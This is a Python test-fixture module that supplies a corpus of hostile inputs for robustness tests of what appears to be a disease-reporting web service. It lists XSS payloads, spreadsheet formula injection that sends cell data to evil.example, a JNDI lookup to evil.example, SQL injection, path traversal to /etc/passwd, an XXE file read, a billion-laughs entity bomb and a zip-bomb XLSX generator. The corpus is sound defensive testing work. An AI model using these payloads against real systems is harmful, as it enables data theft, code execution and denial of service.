"""A corpus of hostile input (issue 24): what people, other systems and attackers put in
text fields and files. Shared by ``tests/test_hostile_input.py`` and ``make probe``.

Each text payload has a category (the probe's table counts per category). JSON allows
a lone surrogate only as an escape (``"\\ud800"``), so bodies are sent as JSON text with
``ensure_ascii`` (see ``json_bytes``).
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

TEXT: list[tuple[str, str]] = [
    # cross-site scripting (OWASP XSS filter evasion cheat sheet, a few of each form)
    ("xss", "<script>alert(1)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", '[x](javascript:alert(1)) <a href="javascript:alert(1)">x</a>'),
    ("xss", "{{7*7}} {% raw %} ${7*7}"),
    # spreadsheet formulas (OWASP CSV injection)
    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("formula", "+cmd|' /C calc'!A0"),
    ("formula", "-2+3"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula", "\t=1+1"),
    # Unicode edge cases
    ("unicode", "\u202egnp.exe"),  # right-to-left override
    ("unicode", "a\u200bb\u200c\u200d\ufeff"),  # zero-width characters, BOM
    ("unicode", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301"),  # combining marks
    ("unicode", "ក្រសួងសុខាភិបាល กระทรวงสาธารณสุข 卫生部"),  # Khmer, Thai, Chinese
    ("unicode", "\ud800"),  # a lone surrogate, allowed by JSON as an escape
    ("unicode", "\U0001f9a0\U0001f637"),  # astral plane
    ("unicode", "\x00"),  # NUL
    ("unicode", "line\r\nbreak\x0b\x1b[31m"),  # control characters
    # sizes and types
    ("size", "x" * 100_000),
    ("size", ""),
    ("size", " "),
    # path traversal and names that are not names
    ("path", "../../../../etc/passwd"),
    ("path", "..\\..\\windows\\win.ini"),
    ("path", "/dev/zero"),
    ("path", "CON"),
    # injection into other languages
    ("injection", "'; DROP TABLE event; --"),
    ("injection", "%00%2e%2e%2f"),
    ("injection", "${jndi:ldap://evil.example/a}"),
]
# values of the wrong type where a string is expected
WRONG_TYPES: list[tuple[str, Any]] = [
    ("type", None),
    ("type", 12345),
    ("type", 1.5e308),
    ("type", True),
    ("type", ["a"]),
    ("type", {"a": "b"}),
]


def json_bytes(body: Any) -> bytes:
    """JSON text as a hostile client sends it (lone surrogates escaped)."""
    return json.dumps(body, ensure_ascii=True).encode("ascii")


def zip_bomb_xlsx(unpacked_mb: int = 80) -> bytes:
    """An XLSX whose one sheet unpacks to ``unpacked_mb`` MB of XML (a few hundred KB
    packed), its declared size in the zip honest."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'worksheet+xml"/></Types>',
        )
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            chunk = row * 20_000
            for _ in range(unpacked_mb * 1_000_000 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol3;</identifier></alert>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&x;</identifier></alert>'
)
UTF7 = (
    b'<?xml version="1.0" encoding="UTF-7"?>+ADw-alert xmlns=+ACI-urn:oasis:names:tc:'
    b"emergency:cap:1.2+ACI-+AD4-+ADw-/alert+AD4-"
)
# files for the upload endpoints: (category, filename, content type, bytes)
FILES: list[tuple[str, str, str, bytes]] = [
    ("encoding", "cases.csv", "text/csv", "disease,period\nmeasles,2026-W47\n".encode("utf-16")),
    ("encoding", "cases.csv", "text/csv", b"\xff\xfe\x00\xd8garbage\x00\x00"),
    ("formula", "cases.csv", "text/csv", b'disease,period\n=HYPERLINK("http://e.example"),=1+1\n'),
    ("path", "../../../etc/passwd", "text/csv", b"disease,period\n"),
    ("path", "a\x00b.csv", "text/csv", b"disease,period\n"),
    ("size", "empty.csv", "text/csv", b""),
    (
        "type",
        "cases.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        b"PK\x03\x04 not a zip",
    ),
    ("type", "minutes.pdf", "application/pdf", b"<html><script>alert(1)</script></html>"),
    (
        "type",
        "x.svg",
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    ("xml", "bomb.xml", "application/xml", BILLION_LAUGHS),
    ("xml", "xxe.xml", "application/xml", XXE),
    ("xml", "utf7.xml", "application/xml", UTF7),
]
